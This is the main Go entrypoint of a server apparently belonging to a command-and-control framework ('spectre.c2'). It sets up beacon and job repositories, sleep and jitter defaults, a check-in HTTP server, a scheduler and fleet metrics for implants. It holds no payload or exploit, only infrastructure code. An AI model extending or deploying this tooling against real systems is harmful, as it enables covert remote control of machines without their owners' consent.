package main

import (
	"context"
	"log"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	goredis "github.com/redis/go-redis/v9"
	"gorm.io/gorm"
	membus "spectre.c2/internal/adapters/events/memory"
	redisbus "spectre.c2/internal/adapters/events/redis"
	http_handler "spectre.c2/internal/adapters/handler/http"
	"spectre.c2/internal/adapters/handler/mqtt"
	memstore "spectre.c2/internal/adapters/repository/memory"
	"spectre.c2/internal/adapters/repository/pg"
	"spectre.c2/internal/config"
	"spectre.c2/internal/core/domain"
	"spectre.c2/internal/core/logger"
	"spectre.c2/internal/core/ports"
	"spectre.c2/internal/core/services"
	"spectre.c2/internal/core/tracing"
)

const version = "0.1.0"

func main() {
	cfg, err := config.Load()
	if err != nil {
		log.Fatalf("failed to load config: %v", err)
	}

	logger.Init(cfg.LogLevel, cfg.LogFormat)
	logger.Info("starting spectre server", "version", version, "storage", cfg.StorageDriver)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	// Tracing
	if cfg.EnableTracing {
		shutdownTracing, err := tracing.Init(cfg.ServiceName, cfg.OTLPEndpoint)
		if err != nil {
			logger.Error("failed to initialize tracing", "error", err)
		} else {
			defer func() {
				if err := shutdownTracing(context.Background()); err != nil {
					logger.Error("failed to shutdown tracing", "error", err)
				}
			}()
		}
	}

	// Storage
	var (
		beaconRepo   ports.BeaconRepository
		jobRepo      ports.JobRepository
		scheduleRepo ports.ScheduleRepository
		activityRepo ports.ActivityRepository
		db           *gorm.DB
	)
	switch cfg.StorageDriver {
	case "memory":
		store := memstore.New(memstore.Defaults{
			SleepInterval: cfg.DefaultSleepInterval,
			JitterPercent: cfg.DefaultJitterPercent,
		})
		beaconRepo, jobRepo, scheduleRepo, activityRepo = store, store, store, store
		logger.Warn("using in-memory storage, state is lost on restart")
	default:
		repo, err := pg.NewRepository(cfg.DatabaseURL, pg.Defaults{
			SleepInterval: cfg.DefaultSleepInterval,
			JitterPercent: cfg.DefaultJitterPercent,
		})
		if err != nil {
			logger.Error("failed to init postgres", "error", err)
			log.Fatalf("failed to init postgres: %v", err)
		}
		beaconRepo, jobRepo, scheduleRepo, activityRepo = repo, repo, repo, repo
		db = repo.DB()
	}

	// Event bus
	var (
		bus         ports.EventBus
		redisClient *goredis.Client
	)
	if cfg.RedisURL != "" {
		rbus, client, err := redisbus.NewBus(cfg.RedisURL)
		if err != nil {
			logger.Error("failed to init redis, falling back to local event bus", "error", err)
			bus = membus.NewBus()
		} else {
			bus = rbus
			redisClient = client
		}
	} else {
		bus = membus.NewBus()
	}

	// Services
	policy := domain.LivenessPolicy{
		ActiveMultiplier: cfg.ActiveMultiplier,
		DormantWindow:    cfg.DormantWindow,
	}
	beaconService := services.NewBeaconService(beaconRepo, jobRepo, policy)
	jobService := services.NewJobService(jobRepo, beaconRepo)
	activityService := services.NewActivityService(activityRepo, bus)
	checkinService := services.NewCheckinService(beaconService, jobService, activityService, cfg.DrainLimit)
	schedulerService := services.NewSchedulerService(scheduleRepo, jobService, beaconService, activityService, cfg.SchedulerTick)
	schedulerService.SetFireRecorder(http_handler.RecordScheduleFire)
	healthService := services.NewHealthService(db, redisClient, version)

	if err := schedulerService.Start(ctx); err != nil {
		logger.Error("failed to start scheduler", "error", err)
		log.Fatalf("failed to start scheduler: %v", err)
	}

	// Live feed
	hub := http_handler.NewHub(bus)
	go hub.Run()
	go hub.EventConsumer(ctx)

	// MQTT mirror
	if cfg.MQTTBroker != "" {
		publisher, err := mqtt.NewPublisher(bus, cfg.MQTTBroker)
		if err != nil {
			logger.Error("failed to init MQTT mirror", "error", err)
		} else {
			publisher.Start(ctx)
			defer publisher.Close()
		}
	}

	go refreshFleetMetrics(ctx, beaconService, jobService)

	agentCfg := domain.AgentConfig{
		ServerURL:     cfg.PublicURL,
		SleepInterval: cfg.DefaultSleepInterval,
		JitterPercent: cfg.DefaultJitterPercent,
		VerifySSL:     cfg.VerifySSL,
		AutoUpload:    cfg.AutoUpload,
	}
	server := http_handler.NewServer(
		checkinService, beaconService, jobService,
		schedulerService, activityService, healthService,
		hub, agentCfg,
	)

	httpServer := &http.Server{
		Addr:    ":" + cfg.HTTPPort,
		Handler: server.Handler(),
	}
	go func() {
		logger.Info("HTTP server starting", "port", cfg.HTTPPort)
		if err := httpServer.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			logger.Error("HTTP server failed", "error", err)
			log.Fatalf("failed to serve http: %v", err)
		}
	}()

	// Graceful shutdown
	sigChan := make(chan os.Signal, 1)
	signal.Notify(sigChan, os.Interrupt, syscall.SIGTERM)
	<-sigChan

	logger.Info("shutting down gracefully")
	cancel()
	shutdownCtx, shutdownCancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer shutdownCancel()
	if err := httpServer.Shutdown(shutdownCtx); err != nil {
		logger.Error("HTTP shutdown failed", "error", err)
	}
}

// refreshFleetMetrics recomputes the beacon and queue gauges on a fixed
// cadence. Derived status cannot be read straight from storage, so the gauges
// are sampled rather than event-driven.
func refreshFleetMetrics(ctx context.Context, beacons *services.BeaconService, jobs *services.JobService) {
	ticker := time.NewTicker(30 * time.Second)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			all, err := beacons.List(ctx)
			if err != nil {
				continue
			}
			counts := map[domain.BeaconStatus]int{}
			var pending int64
			for _, b := range all {
				counts[b.Status]++
				pending += b.PendingJobs
			}
			for _, status := range []domain.BeaconStatus{
				domain.BeaconStatusActive, domain.BeaconStatusDormant,
				domain.BeaconStatusDead, domain.BeaconStatusKilled,
			} {
				http_handler.SetBeaconsByStatus(string(status), counts[status])
			}
			http_handler.SetPendingJobs(pending)
		}
	}
}
